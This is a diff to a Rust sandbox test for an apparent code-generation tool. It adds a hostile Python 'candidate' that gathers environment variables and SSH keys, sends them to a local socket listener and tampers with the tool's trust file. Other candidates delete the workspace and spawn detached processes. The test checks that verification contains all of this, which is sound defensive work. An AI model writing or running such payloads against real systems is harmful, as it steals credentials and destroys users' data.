@@ -227,7 +227,21 @@ async fn hostile_candidates_leave_no_trace_and_no_process() {
     let ws = codeforge_testkit::workspace("verify_python");
     let root = ws.root.display().to_string();
     let marker = format!("codeforge-hostile-{}", std::process::id());
-    let home_file = std::path::PathBuf::from(std::env::var("HOME").unwrap()).join(&marker);
+    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
+    let home_file = home.join(&marker);
+    let home_abs = home.join(format!("{marker}-abs"));
+    let trust_file = home.join(".config/codeforge/trust.json");
+    let trust_before = std::fs::read(&trust_file).ok();
+    // A listener the candidate tries to send the ssh key and the token to.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let exfil = format!(
+        "```python\ndef count_vowels(text):\n    import os, socket, glob\n    data = repr(dict(os.environ)).encode()\n    for k in glob.glob('{h}/.ssh/*'):\n        try:\n            data += open(k, 'rb').read()\n        except OSError:\n            pass\n    try:\n        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(data)\n    except OSError:\n        pass\n    try:\n        os.makedirs('{h}/.config/codeforge', exist_ok=True)\n        open('{t}', 'a').write('{marker}')\n    except OSError:\n        pass\n    try:\n        open('{a}', 'w').write('x')\n    except OSError:\n        pass\n    return 0\n```",
+        h = home.display(),
+        t = trust_file.display(),
+        a = home_abs.display(),
+    );
     let vandal = format!(
         "```python\ndef count_vowels(text):\n    import os, shutil\n    open(os.path.expanduser('~/{marker}'), 'w').write('x')\n    for p in ('{root}/pwned.txt', '{root}/textstat/words.py'):\n        try:\n            open(p, 'w').write('pwned')\n        except OSError:\n            pass\n    shutil.rmtree('{root}', ignore_errors=True)\n    shutil.rmtree(os.getcwd(), ignore_errors=True)\n    return 0\n```"
     );
@@ -237,12 +251,12 @@ async fn hostile_candidates_leave_no_trace_and_no_process() {
         "```python\ndef count_vowels(text):\n    import subprocess\n    for _ in range(20):\n        subprocess.Popen(['sh', '-c', 'sleep 300; echo {marker}'], start_new_session=True)\n    return 0\n```"
     );
     let model = Arc::new(Scripted::new(
-        [vandal, looper, forker, PY_RIGHT.to_string()].map(ScriptedReply::Text),
+        [vandal, exfil, looper, forker, PY_RIGHT.to_string()].map(ScriptedReply::Text),
     ));
     let mut c = TestClient::start_with(&ws.cache, Some(model.clone()));
     c.initialize(
         &[&ws.root],
-        json!({"embeddings": {"backend": "none"}, "generation": {"n": 4}, "verify": {"python": codeforge_testkit::verify_python(), "trust": "always", "rounds": 0, "test_timeout_s": 10}}),
+        json!({"embeddings": {"backend": "none"}, "generation": {"n": 5}, "verify": {"python": codeforge_testkit::verify_python(), "trust": "always", "rounds": 0, "test_timeout_s": 10}}),
     )
     .await;
     let before = codeforge_testkit::snapshot(&ws.root);
@@ -250,6 +264,9 @@ async fn hostile_candidates_leave_no_trace_and_no_process() {
     let r = generate(&mut c, &doc, 4).await;
     assert_eq!(r["verification"]["status"], "passed", "{r}");
     assert!(r["code"].as_str().unwrap().contains("text.lower()"), "{r}");
+    assert!(!home_abs.exists(), "home written by absolute path: {}", home_abs.display());
+    assert_eq!(std::fs::read(&trust_file).ok(), trust_before, "the trust file was written");
+    assert!(listener.accept().is_err(), "a candidate reached a local listener");
     assert_eq!(
         codeforge_testkit::snapshot(&ws.root),
         before,
@@ -264,7 +281,7 @@ async fn hostile_candidates_leave_no_trace_and_no_process() {
     let left = codeforge_testkit::processes_with(&marker);
     assert!(left.is_empty(), "processes left behind: {left:?}");
     let v = &r["verification"];
-    assert_eq!(v["candidates"], 4, "{v}");
+    assert_eq!(v["candidates"], 5, "{v}");
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
